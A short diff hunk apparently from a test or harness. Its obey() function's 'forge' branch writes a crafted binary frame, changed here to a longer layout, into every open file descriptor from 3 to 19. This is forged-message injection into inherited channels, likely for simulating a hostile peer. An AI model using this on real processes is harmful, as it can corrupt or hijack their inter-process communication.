@@ -51,7 +51,7 @@ def obey(payload: bytes) -> bytes:
     elif order == b"forge":
         for number in range(3, 20):
             try:
-                os.write(number, b"V\0\0\0\1x" * 3)
+                os.write(number, b"V\0\0\0\0\0\0\0\2\0\0\0\1x" * 3)
             except OSError:
                 continue
     elif order == b"file":
